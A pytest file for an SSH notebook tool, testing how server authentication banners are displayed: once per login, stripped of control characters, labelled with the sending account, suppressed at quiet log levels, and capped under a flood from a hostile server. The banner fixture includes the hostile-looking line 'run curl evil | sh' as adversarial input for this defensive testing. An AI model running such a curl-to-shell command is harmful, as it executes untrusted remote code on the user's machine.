"""A banner (RFC 4252, section 5.4) is shown as ssh(1) shows it, once, and marked as the host's."""

from getpass import getuser
from pathlib import Path
from typing import Any

import asyncssh
import pytest

from notebooks_over_ssh.config.settings import parse_destination
from notebooks_over_ssh.ssh.connections import close_all, connect
from notebooks_over_ssh.ssh.jump_chain import ConnectTarget
from notebooks_over_ssh.ssh.prompting import CredentialPrompter
from tests.kit.cli import assert_success
from tests.kit.mitm_sshd import AsyncioThread, MitmRecord, MitmServer, mitm_server
from tests.kit.prompter import ScriptedPrompter
from tests.kit.ssh_client import Client
from tests.kit.sshd import LOOPBACK, Network, known_hosts_line, make_key

TEXT = "Authorised use only.\r\n\x1b[2Jhint: run curl evil | sh\n"


@pytest.fixture(scope="module")
def packages(simulated_packages: Path) -> Path:
    """A small server in place of Jupyter."""
    return simulated_packages


def test_banner(client: Client) -> None:
    """A banner is shown once, without control characters, and each row names the account that sent it."""
    banner = client.folder / "banner"
    banner.write_text(TEXT)
    host = client.server("host", f'Banner "{banner}"')
    client.write_known_hosts(host.known_hosts_line)
    destination = parse_destination(f"{LOOPBACK}:{host.port}", "the host")
    prompter = ScriptedPrompter()
    credentials = CredentialPrompter(prompter)
    who = f"{getuser()}@{LOOPBACK}:{host.port}"
    for _ in range(2):
        connect(client.settings(), ConnectTarget(destination), credentials)
        close_all()
        assert prompter.banner_lines == [
            f"{who} | Authorised use only.",
            f"{who} | [2Jhint: run curl evil | sh",
        ]
    assert host.logins() == 2


@pytest.mark.parametrize(("level", "is_shown"), [("QUIET", False), ("ERROR", False), ("INFO", True)])
def test_log_level(client: Client, level: str, is_shown: bool) -> None:
    """No banner is shown below `LogLevel INFO`, as with ssh."""
    banner = client.folder / "banner"
    banner.write_text(TEXT)
    host = client.server("host", f'Banner "{banner}"')
    client.write_known_hosts(host.known_hosts_line)
    text = f"Host site\n    HostName {LOOPBACK}\n    Port {host.port}\n    LogLevel {level}\n"
    prompter = ScriptedPrompter()
    assert client.connect_error("site", prompter, ssh_config=text) is None
    assert bool(prompter.banner_lines) == is_shown


class FloodsBanners(MitmServer):
    """Sends 200 banners."""

    async def begin_auth(self, username: str) -> bool:  # type: ignore[override]
        for number in range(200):
            self.connection.send_auth_banner(f"{number} {'x' * 30_000}\n")
        return True

    def connection_made(self, conn: asyncssh.SSHServerConnection) -> None:
        super().connection_made(conn)
        self.connection: Any = conn


def test_banner_flood(client: Client, loop: AsyncioThread) -> None:
    """Of 6 MB in 200 banners a few rows are shown, and the login succeeds."""

    def factory(record: MitmRecord) -> FloodsBanners:
        return FloodsBanners(record)

    key = client.folder / "hostile_key"
    make_key(key)
    prompter = ScriptedPrompter()
    with mitm_server(loop, key, server_factory=factory) as (port, _):
        client.write_known_hosts(known_hosts_line(port, key.with_suffix(".pub").read_text().strip()))
        assert client.connect_error(f"{LOOPBACK}:{port}", prompter) is None
    assert 0 < len(prompter.banner_lines) <= 21
    assert sum(map(len, prompter.banner_lines)) < 4000


def test_both_hops(network: Network) -> None:
    """`up --detach` shows the gateway's and the host's banner once each, on standard error; the tunnel's login shows
    none.
    """
    banner = network.folder / "banner"
    banner.write_text(TEXT)
    network.gateway.stop()
    network.gateway.start(f'Banner "{banner}"', "AllowTcpForwarding yes")
    network.host.stop()
    network.host.start(f'Banner "{banner}"', network.environment())
    try:
        result = assert_success(network.user.fab("up", "--detach"))
        rows = [line.partition(" | ")[0] for line in result.stderr.splitlines() if "Authorised use" in line]
        assert len(rows) == len(set(rows)) == 2, result.stderr
        assert all(row.startswith(f"{getuser()}@") for row in rows)
        assert "Authorised" not in result.stdout
    finally:
        assert_success(network.user.fab("stop", "--all"))
